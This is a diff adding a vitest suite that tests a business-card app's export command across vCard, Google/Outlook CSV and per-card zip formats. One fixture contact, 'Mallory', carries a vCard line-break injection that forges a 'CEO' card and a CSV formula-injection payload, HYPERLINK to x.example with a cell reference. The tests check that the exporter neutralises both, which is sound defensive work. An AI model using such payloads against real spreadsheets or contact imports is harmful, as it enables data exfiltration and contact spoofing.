@@ -1,0 +1,129 @@
+import fs from 'node:fs';
+import path from 'node:path';
+import sharp from 'sharp';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { BizcardApp } from '../../main/app.js';
+import { main } from '../../main/cli.js';
+import { emptyFields, type ContactFields } from '../../shared/contact.js';
+import { readCsv, readWithVobject, readZipWithPython } from '../independent-parsers.js';
+import { tempDir } from '../helpers.js';
+
+async function run(...argv: string[]) {
+  const out: string[] = [];
+  const err: string[] = [];
+  const code = await main(argv, { out: (s) => out.push(s), err: (s) => err.push(s) });
+  return { code, out, err };
+}
+
+/** A small real JPEG (what capture stores as the card image). */
+async function jpeg(color: string): Promise<Buffer> {
+  return sharp({ create: { width: 64, height: 40, channels: 3, background: color } }).jpeg().toBuffer();
+}
+
+describe('bizcard export, edit, delete, tag and merge', () => {
+  const home = tempDir('bizcard-cli-contacts-');
+  const out = tempDir('bizcard-cli-out-');
+  const uids: Record<string, string> = {};
+
+  beforeAll(async () => {
+    const app = new BizcardApp({ dataDir: home });
+    try {
+      const add = async (key: string, fields: Partial<ContactFields>, extra: { tags?: string[]; event?: string; color?: string } = {}) => {
+        const card = extra.color ? await jpeg(extra.color) : null;
+        const r = app.contacts.save(
+          {
+            fields: { ...emptyFields(), ...fields },
+            method: 'qr',
+            tags: extra.tags,
+            event: extra.event,
+            image: card ? { original: card, originalFilename: `${key}.jpg`, mime: 'image/jpeg', card, cardWidth: 64, cardHeight: 40, thumbnail: card } : undefined,
+          },
+          { allowDuplicate: true },
+        );
+        uids[key] = r.contact!.uid;
+      };
+      await add('ivan', { name: 'Иван Петров', givenName: 'Иван', familyName: 'Петров', company: 'Ромашка', emails: ['ivan@romashka.ru'], phones: [{ value: '+74951234567', kind: 'work' }], address: '125009, Москва, Тверская ул., 7' }, { event: 'Expo', tags: ['vip'], color: '#c33' });
+      await add('olivia', { name: 'Olivia Collins', givenName: 'Olivia', familyName: 'Collins', company: 'Bluefin', title: 'VP Sales', emails: ['olivia@bluefin.example'], address: '350 Mission Street, San Francisco, CA 94105' }, { event: 'Expo', color: '#3c3' });
+      await add('evil', { name: 'Mallory', websites: ['https://x\nEND:VCARD\nBEGIN:VCARD\nFN:Bob Boss (CEO)'], company: '+1+HYPERLINK("http://x.example/?"&A1)' }, { event: 'Other' });
+      await add('olivia2', { name: 'O. Collins', company: 'Bluefin Analytics', title: '', phones: [{ value: '+16175550127', kind: 'mobile' }], emails: ['olivia@bluefin.example', 'o.collins@gmail.example'] }, { tags: ['met-twice'], color: '#33c' });
+    } finally {
+      await app.close();
+    }
+  });
+  afterAll(() => {
+    fs.rmSync(home, { recursive: true, force: true });
+    fs.rmSync(out, { recursive: true, force: true });
+  });
+
+  it('export takes the list filters and vobject reads every card back, photos included', async () => {
+    const file = path.join(out, 'expo.vcf');
+    const r = await run('export', '--data-dir', home, '--event', 'Expo', '-o', file);
+    expect(r).toMatchObject({ code: 0, out: [`2 contacts written to ${file}`] });
+    const cards = readWithVobject(file);
+    expect(cards.map((c) => c.fn)).toEqual(['Иван Петров', 'Olivia Collins']);
+    expect(cards[0]!.adr).toEqual({ street: 'Тверская ул., 7', city: 'Москва', region: '', code: '125009', country: '' });
+    expect(cards[0]!.photo_head).toMatch(/^ffd8ff/); // JPEG
+    expect(cards[0]!.categories).toEqual([['Expo', 'vip']]);
+
+    const searched = path.join(out, 'search.vcf');
+    await run('export', '--data-dir', home, '--search', 'bluefin', '--no-photo', '-o', searched);
+    const found = readWithVobject(searched);
+    expect(found.map((c) => c.fn).sort()).toEqual(['O. Collins', 'Olivia Collins']);
+    expect(found.every((c) => c.photo === 0)).toBe(true);
+    // The same question `list` answers.
+    const listed = (await run('list', '--json', '--data-dir', home, '--search', 'bluefin')).out.map((l) => JSON.parse(l).name);
+    expect(listed.sort()).toEqual(['O. Collins', 'Olivia Collins']);
+
+    const tagged = path.join(out, 'vip.vcf');
+    await run('export', '--data-dir', home, '--tag', 'vip', '--format', 'vcf21', '-o', tagged);
+    expect(readWithVobject(tagged).map((c) => [c.version, c.fn])).toEqual([['2.1', 'Иван Петров']]);
+  });
+
+  it('a hostile contact exports as one card and one neutralised CSV cell', async () => {
+    const file = path.join(out, 'other.vcf');
+    await run('export', '--data-dir', home, '--event', 'Other', '-o', file);
+    expect(readWithVobject(file).map((c) => c.fn)).toEqual(['Mallory']);
+    const csv = path.join(out, 'other.csv');
+    await run('export', '--data-dir', home, '--event', 'Other', '--format', 'google-csv', '-o', csv);
+    const [row] = readCsv(fs.readFileSync(csv, 'utf8'));
+    expect(row!['Organization 1 - Name']).toBe(`'+1+HYPERLINK("http://x.example/?"&A1)`);
+  });
+
+  it('google-csv and outlook-csv read back with csv-parse, Cyrillic intact', async () => {
+    const g = path.join(out, 'google.csv');
+    expect((await run('export', '--data-dir', home, '--format', 'google-csv', '-o', g)).code).toBe(0);
+    const rows = readCsv(fs.readFileSync(g, 'utf8'));
+    expect(rows).toHaveLength(4);
+    expect(rows[0]).toMatchObject({ Name: 'Иван Петров', 'Given Name': 'Иван', 'Family Name': 'Петров', 'Organization 1 - Name': 'Ромашка', 'Phone 1 - Value': '+74951234567', 'Address 1 - City': 'Москва' });
+    expect(rows[3]).toMatchObject({ 'E-mail 1 - Value': 'olivia@bluefin.example', 'E-mail 2 - Value': 'o.collins@gmail.example', 'Phone 1 - Type': 'Mobile' });
+    const o = path.join(out, 'outlook.csv');
+    await run('export', '--data-dir', home, '--format', 'outlook-csv', '--event', 'Expo', '-o', o);
+    const orows = readCsv(fs.readFileSync(o, 'utf8'));
+    expect(orows.map((r) => [r['First Name'], r['Last Name'], r['Job Title'], r['Business City'], r['Business State']])).toEqual([
+      ['Иван', 'Петров', '', 'Москва', ''],
+      ['Olivia', 'Collins', 'VP Sales', 'San Francisco', 'CA'],
+    ]);
+  });
+
+  it('--outlook writes one card per file, into a zip or a folder', async () => {
+    const z = path.join(out, 'cards.zip');
+    expect((await run('export', '--data-dir', home, '--outlook', '-o', z)).out).toEqual([`4 contacts written to ${z} (one .vcf each)`]);
+    const members = readZipWithPython(z);
+    expect(members.map((m) => m.name)).toEqual(['001-Иван Петров.vcf', '002-Olivia Collins.vcf', '003-Mallory.vcf', '004-O. Collins.vcf']);
+    for (const m of members) {
+      expect(m.text.match(/^BEGIN:VCARD/gm)).toHaveLength(1);
+      expect(m.text).toContain('VERSION:2.1');
+    }
+    const folder = path.join(out, 'cards');
+    await run('export', '--data-dir', home, '--outlook', '--format', 'vcf', '-o', folder);
+    const files = fs.readdirSync(folder).sort();
+    expect(files).toHaveLength(4);
+    for (const f of files) expect(readWithVobject(path.join(folder, f))).toHaveLength(1);
+    expect(readWithVobject(path.join(folder, files[0]!))[0]!.fn).toBe('Иван Петров');
+  });
+
+  it('refuses an unknown format or --outlook without a target, naming the option', async () => {
+    expect((await run('export', '--data-dir', home, '--format', 'pdf')).err[0]).toBe('bizcard export: --format must be one of vcf, vcf21, csv, google-csv, outlook-csv, not "pdf"');
+    expect((await run('export', '--data-dir', home, '--outlook')).code).toBe(2);
+  });
+});
